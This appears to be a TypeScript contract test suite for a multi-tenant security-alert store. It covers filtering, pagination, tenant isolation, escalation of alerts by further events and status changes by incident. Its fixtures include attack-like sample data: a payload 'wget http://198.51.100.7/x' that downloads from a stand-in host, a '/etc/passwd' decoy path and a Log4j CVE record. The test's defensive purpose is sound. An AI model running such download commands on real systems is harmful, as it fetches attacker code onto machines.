import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { Alert } from '../../../../src/core/alert.ts';
import { AppError } from '../../../../src/core/errors.ts';
import type { AlertFilter } from '../../../../src/core/query.ts';
import { type Backend, useStore } from './backend.ts';
import { fresh, makeAlert, newTenant, readAll, time, write } from './records.ts';

export function alertsContract(backend: Backend): void {
  describe(`${backend.name}: alerts`, () => {
    const open = useStore(backend);
    const user = newTenant();
    const other = newTenant();
    let all: Alert[] = [];
    const active = async (tenant: string): Promise<number> =>
      (await open.store.of(tenant).stats()).active_alerts;
    const judged = { verdict: 'harmless', note: 'ours', by: 'eve', at: time(50) } as const;

    before(async () => {
      const statuses = ['open', 'acknowledged', 'investigating', 'resolved'] as const;
      all = Array.from({ length: 40 }, (_, at) =>
        makeAlert({
          user_id: user,
          alert_id: `ALERT-${String((at * 7) % 40).padStart(2, '0')}`,
          timestamp: time(Math.floor(at / 4)),
          source_ip: `203.0.113.${at % 5}`,
          node_id: `node-${at % 3}`,
          incident_id: `inc-${at % 6}`,
          risk_score: at % 11,
          status: statuses[at % 4] ?? 'open',
          human_verdict: at % 10 === 0 ? judged : null,
        }),
      );
      await write(open.store, user, { alerts: all });
      await write(open.store, other, {
        alerts: [
          makeAlert({ user_id: other, alert_id: 'ALERT-00', incident_id: 'inc-0', source_ip: '203.0.113.0' }),
        ],
      });
      all.sort((a, b) =>
        a.timestamp === b.timestamp ? (a.alert_id < b.alert_id ? 1 : -1) : a.timestamp < b.timestamp ? 1 : -1,
      );
    });

    it('are kept as they are, for their tenant alone', async () => {
      const mine = newTenant();
      const alert = makeAlert({
        user_id: mine,
        extra: ['anything', { goes: null }],
        session: 's-1',
        related_decoy: '/etc/passwd',
      });
      await write(open.store, mine, { alerts: [alert] });
      assert.deepEqual(await open.store.of(mine).alert(alert.alert_id), alert);
      assert.equal(await open.store.of(newTenant()).alert(alert.alert_id), null);
      assert.equal(await open.store.of(mine).alert('ALERT-none'), null);
    });

    it('are inserted where the id is not there yet', async () => {
      const mine = newTenant();
      const alert = makeAlert({ user_id: mine });
      await write(open.store, mine, { alerts: [alert] });
      await write(open.store, mine, { alerts: [{ ...alert, payload: 'again', event_count: 9 }] });
      assert.deepEqual(await open.store.of(mine).alert(alert.alert_id), alert);
      assert.equal(await active(mine), 1);
    });

    const list = (filter: AlertFilter, limit: number): Promise<Alert[]> =>
      readAll((page) => open.store.of(user).alerts(filter, page), limit);
    const ids = (alerts: readonly Alert[]): string[] => alerts.map((alert) => alert.alert_id);

    it('are listed newest first, in pages of any size', async () => {
      for (const limit of [1, 3, 40, 100]) assert.deepEqual(ids(await list({}, limit)), ids(all));
    });

    const filters: [string, AlertFilter, (alert: Alert) => boolean][] = [
      ['status', { status: 'investigating' }, (a) => a.status === 'investigating'],
      ['being open', { open: true }, (a) => a.status !== 'resolved'],
      ['source', { source: '203.0.113.2' }, (a) => a.source_ip === '203.0.113.2'],
      ['node', { node_id: 'node-1' }, (a) => a.node_id === 'node-1'],
      ['least risk', { min_risk: 8 }, (a) => a.risk_score >= 8],
      ['incident', { incident_id: 'inc-4' }, (a) => a.incident_id === 'inc-4'],
      ['being judged', { judged: true }, (a) => a.human_verdict !== null],
      ['time', { from: time(3), to: time(6) }, (a) => a.timestamp >= time(3) && a.timestamp < time(6)],
      [
        'incident and being open',
        { incident_id: 'inc-3', open: true },
        (a) => a.incident_id === 'inc-3' && a.status !== 'resolved',
      ],
      [
        'source, being open and incident',
        { incident_id: 'inc-2', source: '203.0.113.2', open: true },
        (a) => a.incident_id === 'inc-2' && a.source_ip === '203.0.113.2' && a.status !== 'resolved',
      ],
      [
        'being open, node and risk',
        { open: true, node_id: 'node-2', min_risk: 3 },
        (a) => a.status !== 'resolved' && a.node_id === 'node-2' && a.risk_score >= 3,
      ],
    ];
    for (const [name, filter, holds] of filters)
      it(`are filtered by ${name}`, async () => {
        const expected = ids(all.filter(holds));
        assert.ok(expected.length > 0 && expected.length < all.length, 'the case tells nothing apart');
        for (const limit of [2, 100]) assert.deepEqual(ids(await list(filter, limit)), expected);
      });

    it('show nothing of another tenant in any list', async () => {
      for (const filter of [{}, { incident_id: 'inc-0' }, { source: '203.0.113.0' }, { open: true }]) {
        const { items } = await open.store.of(other).alerts(filter, { limit: 100 });
        assert.deepEqual(
          items.map((alert) => alert.user_id),
          [other],
        );
      }
    });

    it('refuse a cursor that no page gave', async () => {
      await assert.rejects(
        open.store.of(user).alerts({}, { limit: 5, cursor: 'e30' }),
        (error) => error instanceof AppError && error.code === 'bad_request',
      );
    });

    it('grow with further events, and become worse but never milder', async () => {
      const mine = newTenant();
      const alert = makeAlert({ user_id: mine, risk_score: 8 });
      await write(open.store, mine, { alerts: [alert] });
      const fold = { user_id: mine, alert_id: alert.alert_id };
      const { attack_type: _t, risk_score: _r, ...rest } = alert;
      const judgement = {
        attack_type: 'CommandExecution',
        risk_score: 9,
        confidence: 0.5,
        is_anomaly: true,
        reasons: ['ran a command'],
        evidence: [],
        tactics: ['Execution'],
        techniques: ['T1059'],
        scored_by: 'rules',
        model: '2',
        protocol: 'ssh',
        vulnerability: {
          id: 'CVE-2021-44228',
          title: 'code by a look-up',
          product: 'Log4j',
          kev: true as const,
          strength: 'exploit' as const,
        },
      };
      const step = {
        activity: 'command',
        payload: 'wget http://198.51.100.7/x',
        extra: { a: { 'b.$c': '\u0000' } },
      };
      await write(open.store, mine, {
        alertFolds: [{ ...fold, events: 3, last_seen: time(9), worse: { ...judgement, ...step } }],
      });
      const worse = { ...rest, ...judgement, ...step, event_count: 4, last_seen: time(9) };
      assert.deepEqual(await open.store.of(mine).alert(alert.alert_id), worse);
      const milder = { ...judgement, risk_score: 2, attack_type: 'Normal' };
      await write(open.store, mine, {
        alertFolds: [
          { ...fold, events: 1, last_seen: time(4), worse: milder },
          { ...fold, events: 1, last_seen: time(4), worse: null },
          { ...fold, alert_id: 'ALERT-none', events: 1, last_seen: time(4), worse: null },
        ],
      });
      assert.deepEqual(await open.store.of(mine).alert(alert.alert_id), { ...worse, event_count: 6 });
    });

    it('take no event of another tenant', async () => {
      const [mine, thief] = [newTenant(), newTenant()];
      const alert = makeAlert({ user_id: mine });
      await write(open.store, mine, { alerts: [alert] });
      await write(open.store, thief, {
        alertFolds: [
          { user_id: thief, alert_id: alert.alert_id, events: 5, last_seen: time(9), worse: null },
        ],
      });
      assert.deepEqual(await open.store.of(mine).alert(alert.alert_id), alert);
    });

    it('are changed by people, and active_alerts stays true', async () => {
      const mine = newTenant();
      const [a, b] = [makeAlert({ user_id: mine }), makeAlert({ user_id: mine })];
      await write(open.store, mine, { alerts: [a, b, makeAlert({ user_id: mine, status: 'resolved' })] });
      assert.equal(await active(mine), 2);
      const update = (patch: Parameters<ReturnType<typeof open.store.of>['updateAlert']>[1]) =>
        open.store.of(mine).updateAlert(a.alert_id, patch);
      assert.deepEqual(await update({ status: 'resolved' }), { ...a, status: 'resolved' });
      assert.equal(await active(mine), 1);
      await update({ status: 'resolved' });
      assert.equal(await active(mine), 1);
      assert.deepEqual(await update({ human_verdict: judged, notified: false }), {
        ...a,
        status: 'resolved',
        human_verdict: judged,
        notified: false,
      });
      await update({ status: 'acknowledged', human_verdict: null });
      assert.equal(await active(mine), 2);
      assert.equal((await open.store.of(mine).alert(a.alert_id))?.human_verdict, null);
      assert.equal(await open.store.of(mine).updateAlert('ALERT-none', { status: 'open' }), null);
      assert.equal(await open.store.of(newTenant()).updateAlert(a.alert_id, { status: 'resolved' }), null);
      assert.equal(await active(mine), 2);
    });

    it('count as active once, however many people resolve one at the same time', async () => {
      const mine = newTenant();
      const alert = makeAlert({ user_id: mine });
      await write(open.store, mine, { alerts: [alert, makeAlert({ user_id: mine })] });
      await Promise.all(
        Array.from({ length: 8 }, () =>
          open.store.of(mine).updateAlert(alert.alert_id, { status: 'resolved' }),
        ),
      );
      assert.equal(await active(mine), 1);
    });

    it('follow their incident, but for the resolved ones', async () => {
      const [mine, thief] = [newTenant(), newTenant()];
      const incident_id = fresh('inc');
      const [a, b, done] = [
        makeAlert({ user_id: mine, incident_id }),
        makeAlert({ user_id: mine, incident_id, status: 'investigating' }),
        makeAlert({ user_id: mine, incident_id, status: 'resolved' }),
      ];
      await write(open.store, mine, { alerts: [a, b, done, makeAlert({ user_id: mine })] });
      assert.equal(await open.store.of(thief).updateAlertsOfIncident(incident_id, 'resolved'), 0);
      assert.equal(await open.store.of(mine).updateAlertsOfIncident(incident_id, 'acknowledged'), 2);
      assert.equal((await open.store.of(mine).alert(a.alert_id))?.status, 'acknowledged');
      assert.equal((await open.store.of(mine).alert(done.alert_id))?.status, 'resolved');
      assert.equal(await active(mine), 3);
      assert.equal(await open.store.of(mine).updateAlertsOfIncident(incident_id, 'resolved'), 2);
      assert.equal(await active(mine), 1);
      assert.equal(await open.store.of(mine).updateAlertsOfIncident(incident_id, 'open'), 0);
    });

    it('come back with their incident, the resolved ones too', async () => {
      const [mine, thief] = [newTenant(), newTenant()];
      const incident_id = fresh('inc');
      const [a, done] = [
        makeAlert({ user_id: mine, incident_id }),
        makeAlert({ user_id: mine, incident_id, status: 'resolved' }),
      ];
      const tenant = open.store.of(mine);
      await write(open.store, mine, { alerts: [a, done, makeAlert({ user_id: mine })] });
      await tenant.updateAlertsOfIncident(incident_id, 'resolved');
      assert.equal(await active(mine), 1);
      assert.equal(await open.store.of(thief).updateAlertsOfIncident(incident_id, 'open', 'all'), 0);
      assert.equal(await tenant.updateAlertsOfIncident(incident_id, 'acknowledged', 'all'), 2);
      assert.equal((await tenant.alert(done.alert_id))?.status, 'acknowledged');
      assert.equal(await active(mine), 3);
      assert.equal(await tenant.updateAlertsOfIncident(incident_id, 'resolved', 'all'), 2);
      assert.equal(await active(mine), 1);
    });
  });
}
